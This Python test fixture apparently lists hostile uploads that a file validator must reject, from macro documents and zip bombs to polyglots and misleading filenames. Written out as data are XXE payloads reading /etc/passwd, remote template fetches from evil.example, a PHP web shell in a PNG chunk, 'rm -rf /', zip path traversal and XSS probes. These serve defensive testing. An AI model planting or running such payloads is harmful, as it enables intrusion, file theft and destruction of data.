"""Files that must not be kept: a name, the content, and a word of the reason that is given."""

from collections.abc import Callable

from tests.ground.files import hostile_zips as z
from tests.ground.files import making as m
from tests.ground.files.hostile_pdfs import PDFS

MACRO = "application/vnd.ms-word.document.macroEnabled.main+xml"
LAUGHS = (
    b'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "ha">'
    b'<!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]><l>&b;</l>'
)
FETCH = (
    b'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    b'<w:document xmlns:w="x">&x;</w:document>'
)
OUTSIDE = b'<?xml version="1.0"?><!DOCTYPE l SYSTEM "http://example.org/x.dtd"><l/>'
HOLDS = "another file"
Made = Callable[[], bytes]


def relations(kind: str, target: str) -> Made:
    return lambda: m.word_with({"word/_rels/document.xml.rels": m.rels(m.relation(kind, target))})


HOSTILE: dict[str, tuple[str, Made, str]] = PDFS | {
    "EICAR": ("eicar.com", lambda: m.EICAR, "must be"),
    "EICAR called a PDF": ("eicar.pdf", lambda: m.EICAR, "content is not"),
    "EICAR in a Word file": ("a.docx", lambda: z.entry("word/eicar.com", m.EICAR), "another file"),
    "a program": ("setup.exe", lambda: b"MZ\x90\0" + b"\0" * 100, "must be"),
    "a program called a PDF": ("setup.pdf", lambda: b"MZ\x90\0" + b"\0" * 100, "content is not"),
    "a shell script called a picture": ("a.png", lambda: b"#!/bin/sh\nrm -rf /\n", "content is not"),
    "a page called a picture": ("a.jpg", lambda: b"<html><script>alert(1)</script></html>", "content is not"),
    "an SVG with a script": ("a.svg", lambda: b"<svg xmlns='x'><script>alert(1)</script></svg>", "must be"),
    "an SVG called a PNG": (
        "a.png",
        lambda: b"<svg xmlns='x'><script>alert(1)</script></svg>",
        "content is not",
    ),
    "a web page": ("a.html", lambda: b"<html></html>", "must be"),
    "a macro file": ("a.docm", lambda: m.zipped(m.word_parts()), "must be"),
    "a macro file renamed": (
        "a.docx",
        lambda: m.word_with({"[Content_Types].xml": m.types(MACRO)}),
        "macros",
    ),
    "a macro part": ("a.docx", lambda: m.word_with({"word/vbaProject.bin": b"x"}), "macros"),
    "a macro part elsewhere": ("a.xlsx", lambda: m.excel_with({"xl/VBAproject.BIN": b"x"}), "macros"),
    "macro data": ("a.docx", lambda: m.word_with({"word/vbaData.xml": b"<a/>"}), "macros"),
    "old Excel macros": ("a.xlsx", lambda: m.excel_with({"xl/macrosheets/sheet1.xml": b"<a/>"}), "macros"),
    "ActiveX": ("a.docx", lambda: m.word_with({"word/activeX/activeX1.xml": b"<a/>"}), "macros"),
    "an OLE object": (
        "a.docx",
        lambda: m.word_with({"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0x"}),
        HOLDS,
    ),
    "a program inside": ("a.docx", lambda: m.word_with({"word/media/image1.png": b"MZ\x90\0xxx"}), HOLDS),
    "a script inside": ("a.docx", lambda: m.word_with({"word/run.vbs": b"x"}), HOLDS),
    "a PDF inside": ("a.docx", lambda: m.word_with({"word/media/a.bin": b"%PDF-1.7"}), HOLDS),
    "a gzip inside": ("a.docx", lambda: m.word_with({"word/media/a.bin": b"\x1f\x8b\x08"}), HOLDS),
    "a zip inside": ("a.docx", lambda: m.word_with({"word/media/a.bin": m.zipped({"a": b"b"})}), HOLDS),
    "a plain zip": ("a.docx", lambda: m.zipped({"readme.txt": b"hello"}), "zip archive"),
    "a jar": (
        "a.docx",
        lambda: m.zipped({"META-INF/MANIFEST.MF": b"x", "A.class": b"\xca\xfe\xba\xbe"}),
        "zip",
    ),
    "a presentation": (
        "a.docx",
        lambda: m.word_with({"[Content_Types].xml": m.types("x.presentation")}),
        "not a Word",
    ),
    "DDE": ("a.docx", lambda: m.word_with({"word/document.xml": m.word_xml("DDEAUTO c:\\x")}), "macros"),
    "DDE in Excel": (
        "a.xlsx",
        lambda: m.excel_with({"xl/externalLinks/e.xml": b"<l><ddeLink/></l>"}),
        "macros",
    ),
    "a template from elsewhere": (
        "a.docx",
        lambda: m.word_with(
            {
                "word/_rels/settings.xml.rels": m.rels(
                    m.relation("attachedTemplate", "http://evil.example/x.dotm")
                )
            }
        ),
        "fetches",
    ),
    "a template from a share": (
        "a.docx",
        lambda: m.word_with(
            {
                "word/_rels/settings.xml.rels": m.rels(
                    m.relation("attachedTemplate", "file:///\\\\evil\\x.dotm")
                )
            }
        ),
        "fetches",
    ),
    "an object from elsewhere": (
        "a.docx",
        lambda: m.word_with(
            {"word/_rels/document.xml.rels": m.rels(m.relation("oleObject", "https://evil.example/x"))}
        ),
        "fetches",
    ),
    "XXE": ("a.docx", lambda: m.word_with({"word/document.xml": FETCH}), "coded"),
    "XXE in its types": (
        "a.docx",
        lambda: m.word_with({"[Content_Types].xml": LAUGHS + m.types(m.DOCX_MAIN)}),
        "coded",
    ),
    "XXE in its relations": ("a.docx", lambda: m.word_with({"_rels/.rels": FETCH}), "coded"),
    "billion laughs": ("a.xlsx", lambda: m.excel_with({"xl/workbook.xml": LAUGHS}), "coded"),
    "billion laughs in ODT": ("a.odt", lambda: m.odt_with({"content.xml": LAUGHS}), "coded"),
    "a document type from outside": ("a.docx", lambda: m.word_with({"word/styles.xml": OUTSIDE}), "coded"),
    "UTF-16 to hide in": (
        "a.docx",
        lambda: m.word_with({"word/document.xml": "<a/>".encode("utf-16")}),
        "damaged",
    ),
    "macros in ODT": ("a.odt", lambda: m.odt_with({"Basic/Standard/Module1.xml": b"<a/>"}), "macros"),
    "scripts in ODT": ("a.odt", lambda: m.odt_with({"Scripts/python/a.py": b"x"}), "macros"),
    "a call of a script in ODT": (
        "a.odt",
        lambda: m.odt_with({"content.xml": b'<a href="vnd.sun.star.script:../../x.py$t"/>'}),
        "macros",
    ),
    "a locked ODT": ("a.odt", lambda: m.odt_with({"content.xml": b"\x91\x02\x88secret"}), "password"),
    "a spreadsheet called ODT": ("a.odt", lambda: m.odt_with(mime=m.ODT_MIME[:-4] + b"sheet"), "not a text"),
    "a zip bomb of a gibibyte": ("a.docx", z.gibibyte, "unpacks"),
    "a zip bomb by ratio": ("a.docx", lambda: z.entry("word/a.xml", b"\0" * 60_000_000), "unpacks"),
    "a zip that lies small": ("a.docx", lambda: z.lying(size=1_000), "unpacks"),
    "a zip that lies large": ("a.docx", lambda: z.lying(size=3_000_009), "damaged"),
    "a hundred thousand entries": ("a.docx", z.many_entries, "unpacks"),
    "many entries that say few": ("a.docx", z.many_but_says_few, "unpacks"),
    "entries that share bytes": ("a.docx", z.overlapping, ""),
    "files in files in files": ("a.docx", lambda: z.nested(2), HOLDS),
    "a locked zip": ("a.docx", z.locked_zip, "password"),
    "zip64": ("a.docx", z.zip64, "unpacks"),
    "a broken index": ("a.docx", lambda: m.zipped(m.word_parts())[:-30] + b"x" * 30, "not packed"),
    "a zip with a wrong sum": ("a.docx", lambda: z.damaged(m.zipped(m.word_parts()), 60), "damaged"),
    "traversal inside": ("a.docx", lambda: z.entry("../../etc/cron.d/x"), "not packed"),
    "an absolute path inside": ("a.docx", lambda: z.entry("/etc/passwd"), "not packed"),
    "a backslash path inside": ("a.docx", lambda: z.entry("..\\..\\x.xml"), "not packed"),
    "a drive inside": ("a.docx", lambda: z.entry("C:evil.xml"), "not packed"),
    "a link inside": ("a.docx", lambda: z.entry("word/link", b"/etc/passwd", mode=0o120777), "not packed"),
    "one name twice": ("a.docx", lambda: z.entry("WORD/document.xml", b"<a/>"), "not packed"),
    "bytes before the zip": ("a.docx", lambda: b"MZ" + m.zipped(m.word_parts()), "content is not"),
    "bytes after the zip": ("a.docx", lambda: m.zipped(m.word_parts()) + b"<script>", "not packed"),
    "a comment behind the zip": (
        "a.docx",
        lambda: m.zipped(m.word_parts(), comment=b"<script>"),
        "not packed",
    ),
    "a zip that is a PDF too": (
        "a.docx",
        lambda: m.zipped({"a.pdf": b"%PDF-1.7"} | m.word_parts(), stored=("a.pdf",)),
        "hidden",
    ),
    "a PDF called Word": ("a.docx", m.plain_pdf, "ends in .docx"),
    "Word called a PDF": ("a.pdf", lambda: m.zipped(m.word_parts()), "ends in .pdf"),
    "Excel called Word": ("a.docx", m.excel_with, "ends in .docx"),
    "an old Word file": ("a.docx", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, "old kind"),
    "an iPhone's picture": ("a.jpg", lambda: b"\0\0\0\x18ftypheic" + b"\0" * 60, "HEIC"),
    "PNG: 30,000 by 30,000": ("a.png", lambda: m.png(30_000, 30_000, lines=10), "too many dots"),
    "PNG: of no size": ("a.png", lambda: m.png(0, 5), "damaged"),
    "PNG: a wrong sum": ("a.png", lambda: z.damaged(m.png(), 20), "damaged"),
    "PNG: cut off": ("a.png", lambda: m.png()[:-20], "damaged"),
    "PNG: a zip behind it": ("a.png", lambda: m.png(after=m.zipped({"a": b"b"})), "hidden"),
    "PNG: a page behind it": ("a.png", lambda: m.png(after=b"<HTML><script>x</script>"), "hidden"),
    "PNG: PHP in its text": (
        "a.png",
        lambda: m.png(more=m.chunk(b"tEXt", b"c\0<?php system($_GET[0]) ?>")),
        "hidden",
    ),
    "PNG: a PDF in its text": ("a.png", lambda: m.png(more=m.chunk(b"tEXt", b"c\0%PDF-1.7")), "hidden"),
    "JPEG: 65,000 by 65,000": ("a.jpg", lambda: m.jpg(65_000, 65_000), "too many dots"),
    "JPEG: a script in its comment": ("a.jpg", lambda: m.jpg(comment=b"<script>alert(1)</script>"), "hidden"),
    "JPEG: a jar behind it": ("a.jpg", lambda: m.jpg(after=m.zipped({"A.class": b"\xca\xfe"})), "hidden"),
    "JPEG: cut off": ("a.jpg", lambda: m.jpg()[:40], "damaged"),
    "JPEG: only a beginning": ("a.jpg", lambda: b"\xff\xd8\xff", "damaged"),
    "a double ending": ("invoice.exe.pdf", m.plain_pdf, "two endings"),
    "a double ending the other way": ("invoice.pdf.exe", m.plain_pdf, "must be"),
    "a name that turns round": ("invoice\u202efdp.exe.pdf", m.plain_pdf, "turn the text"),
    "a name with isolates": ("a\u2066b\u2069.pdf", m.plain_pdf, "turn the text"),
    "a name with NUL": ("a.pdf\0.exe", m.plain_pdf, "not allowed"),
    "no ending": ("README", m.plain_pdf, "must be"),
    "only an ending": (".htaccess", m.plain_pdf, "must be"),
    "nothing": ("a.pdf", bytes, "empty"),
}
